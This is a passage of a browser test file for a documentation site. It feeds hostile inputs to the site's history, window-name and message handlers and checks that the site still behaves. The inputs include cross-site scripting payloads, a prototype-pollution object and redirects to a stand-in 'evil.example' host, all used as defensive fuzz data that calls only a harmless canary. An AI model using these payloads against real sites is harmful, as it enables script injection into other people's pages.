  ];
  for (const path of paths) {
    await watched.go(path);
    await page.evaluate("document.querySelector('main a').click()");
    await until(page, "location.pathname === '/'");
    await page.goBack();
    await until(
      page,
      `location.pathname === ${JSON.stringify(new URL(site.url + path).pathname)} && document.documentElement.dataset.pageType === '404'`,
    );
    await answers(page);
    await page.evaluate(
      `(() => { const link = document.createElement('a'); link.href = location.origin + ${JSON.stringify(path)}; document.querySelector('main').append(link); for (const type of ['pointerover', 'focusin', 'touchstart']) link.dispatchEvent(new Event(type, { bubbles: true })); link.remove(); })()`,
    );
    await watched.calm(path);
  }
  await watched.close();
  // The search code is gone, so the page checks whether a new release has replaced it.
  const old = await watch('/guide/last');
  await old.page.route('**/static/chunk.*', route =>
    route.fulfill({ status: 404, contentType: 'text/html', body: 'gone' }),
  );
  await old.page.goto(`${site.url}//evil.example/a`, { waitUntil: 'load' });
  await old.page.keyboard.press('Control+k');
  await old.page.waitForLoadState('networkidle');
  await old.calm('a release');
  await old.close();
});

test('entries of the history, the name of the window, and messages', async () => {
  const states = [
    '"x"',
    '1',
    'null',
    '[]',
    '[1, 2]',
    '{ y: "x" }',
    '{ y: NaN }',
    '{ y: 1e300 }',
    '{ y: -1 }',
    '{ y: { valueOf: 1 } }',
    '{ typed: 1 }',
    '{ typed: { value: "x" } }',
    '{ typed: "<img src=x onerror=canary()>" }',
    '{ typed: "<script>canary()</script>", y: 0 }',
    '{ typed: "\\u202e\\ud800" }',
    '{ typed: "a ".repeat(5e4) }',
    'JSON.parse(\'{"__proto__": {"polluted": 1}, "y": 10}\')',
    '{ reloaded: "x", typed: [] }',
    'new Map([["y", 1]])',
    'new Date()',
    '{ y: 5, big: "x".repeat(1e5) }',
    'location.href',
    '"<script>canary()</script>"',
  ];
  const watched = await watch('/guide/widgets');
  const { page } = watched;
  for (const [at, state] of sample([...states.entries()], 3)) {
    await page.evaluate(
      `history.replaceState(${state}, ''); window.name = ${JSON.stringify(TEXTS[at])}`,
    );
    await page.reload({ waitUntil: 'load' });
    await answers(page);
    // Scrolling writes the history entry, and going back restores it.
    await page.evaluate(`(async () => {
      scrollTo(0, 200);
      const stepped = () => new Promise(resolve => addEventListener('popstate', resolve, { once: true }));
      history.replaceState(${state}, '');
      location.hash = 'a${at}';
      history.pushState(null, '', '#b${at}');
      for (const data of [${state}, ${JSON.stringify(TEXTS[at])}, { type: 'message', kind: 'load', index: '//evil.example', id: 1 }]) postMessage(data, '*');
      history.back();
      await stepped();
      dispatchEvent(new PopStateEvent('popstate', { state: ${state} }));
    })()`);
    await watched.calm(state);
  }
  await watched.works('history');
  await watched.close();
  count('entries of the history', states.length);
  count('names of the window', states.length);
  count('messages', 3 * states.length);
});

test("ids and classes of a page's text that a script of the site, or the browser, knows by name", async () => {
  const watched = await watch('/guide/names');
  const { page } = watched;
  assert.ok(
    await page.evaluate(
      `${JSON.stringify(NAMES)}.every(name => document.querySelector('.prose [id="' + name + '"]'))`,
    ),
  );
  await watched.works('names');
  assert.is(
    await page.evaluate(
      "document.querySelector('[data-look=dark]').click() || document.documentElement.dataset.appearance",
    ),
    'dark',
  );
  await openSearch(page);
  await ask(page, 'wick');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('ArrowUp');
  await page.keyboard.press('Enter');
  await until(page, "location.pathname === '/config/wick'");
  await page.goBack();
  await until(
    page,
    "location.pathname === '/guide/names' && document.querySelector('h1').textContent === 'Names'",
  );
  await openSearch(page);
  await page.fill('#search-input', 'output.');
  await page.waitForSelector('dialog [id^=search-path]');
  await page.keyboard.press('Enter');
  await until(page, "location.pathname === '/config/wick'");
  await watched.calm('names');
  await watched.close();
  count('ids and classes', NAMES.length);
});

test('at least 15 inputs for every sink', () => {
  const total = [...tried.values()].reduce((sum, inputs) => sum + inputs, 0);
  process.stdout.write(
    `${total} hostile inputs in ${tried.size} sinks of the browser: ${[...tried].map(([sink, inputs]) => `${sink} ${inputs}`).join(', ')}\n`,
  );
  for (const [sink, inputs] of tried) assert.ok(inputs >= 15, `${sink}: ${inputs}`);
});

test.after(async () => {
  await closeBrowser();
  await site.stop();
});
test.run();
